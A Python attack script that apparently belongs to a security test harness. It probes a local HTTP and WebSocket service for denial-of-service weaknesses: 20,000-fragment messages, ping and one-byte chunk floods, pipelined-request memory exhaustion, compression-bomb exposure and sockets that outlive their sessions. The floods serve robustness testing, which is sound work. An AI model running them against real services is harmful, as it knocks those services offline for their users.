# attack: serve/crumbs-of-every-kind
# oracle: alive
# source: own
# note: frames, pings, fragments, chunks and requests of almost nothing, thousands in each read; what is compressed; sockets that outlive their session
import base64
import contextlib
import os
import socket
import threading

import httpx


def upgraded(world, session):
    raw = socket.create_connection(world.address, timeout=60)
    key = base64.b64encode(os.urandom(16)).decode()
    raw.sendall(f"GET /v1/sessions/{session}/tools HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\nAuthorization: Bearer {world.bob}\r\n\r\n".encode())
    return raw, raw.recv(4096)


def frame(opcode, payload=b"", final=True):
    return bytes([final << 7 | opcode, 0x80 | len(payload)]) + b"\0\0\0\0" + payload


def chunked(world, token):
    raw = socket.create_connection(world.address, timeout=60)
    raw.sendall(f"PUT /v1/sessions/x/files/x HTTP/1.1\r\nHost: 127.0.0.1\r\n{token}Transfer-Encoding: chunked\r\n\r\n".encode())
    return raw


def attack(world):
    reached = []
    path = f"/v1/sessions/{world.session}/runs"
    with httpx.Client(base_url=world.url, headers={"Authorization": f"Bearer {world.alice}"}, timeout=300) as alice, \
         httpx.Client(base_url=world.url, headers={"Authorization": f"Bearer {world.bob}"}, timeout=300) as bob:  # fmt: skip
        own = bob.post("/v1/sessions", json={}).json()["id"]
        raw, _ = upgraded(world, own)
        with raw, contextlib.suppress(OSError):
            raw.sendall(frame(1, b"{", final=False) + frame(0, b"", final=False) * 20_000 + frame(0, b"}") + frame(1, b"x"))
            if raw.recv(4096):  # "x" is no JSON: the answer would be a frame that says so
                reached.append("a message in 20,000 fragments")
        kinds = {
            "messages": (lambda: upgraded(world, own)[0], frame(1, b"{}")),
            "pings": (lambda: upgraded(world, own)[0], frame(9)),
            "chunks": (lambda: chunked(world, f"Authorization: Bearer {world.bob}\r\n"), b"1\r\nx\r\n"),
            "chunks of a stranger": (lambda: chunked(world, ""), b"1\r\nx\r\n"),
        }
        for name, (connected, crumb) in kinds.items():
            with contextlib.ExitStack() as many:
                taken = []
                for _ in range(2):
                    raw = many.enter_context(connected())

                    def send(raw=raw, crumbs=crumb * (4 << 20)):
                        with contextlib.suppress(OSError):  # or it is cut
                            taken.append(raw.sendall(crumbs))

                    threading.Thread(target=send, daemon=True).start()
                for _ in range(5):
                    done = alice.post(path, json={"code": "6 * 7"})
                    if done.status_code != 200 or done.json()["value"] != 42:
                        reached.append((name, done.text[:200]))
                if taken:
                    reached.append(f"all {name} went first")
        raw, said = upgraded(world, own)
        raw.close()
        if b"permessage-deflate" in said:
            reached.append("a kilobyte may say that it is a megabyte")
        before = world.memory_bytes()
        with contextlib.ExitStack() as many:
            for _ in range(30):
                raw = many.enter_context(socket.create_connection(world.address, timeout=60))
                with contextlib.suppress(OSError):
                    raw.sendall(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 20_000)
            if world.memory_bytes() - before > 64 << 20:
                reached.append("requests that wait for others are in memory")
        left = []
        for _ in range(3):
            raw, said = upgraded(world, own)
            bob.delete(f"/v1/sessions/{own}")
            own = bob.post("/v1/sessions", json={}).json()["id"]
            left.append(raw.recv(4096)[:1])
            raw.close()
        if left != [b"\x88"] * 3:  # a frame that closes
            reached.append(f"sockets of sessions that are gone: {left}")
        bob.delete(f"/v1/sessions/{own}")
    return reached
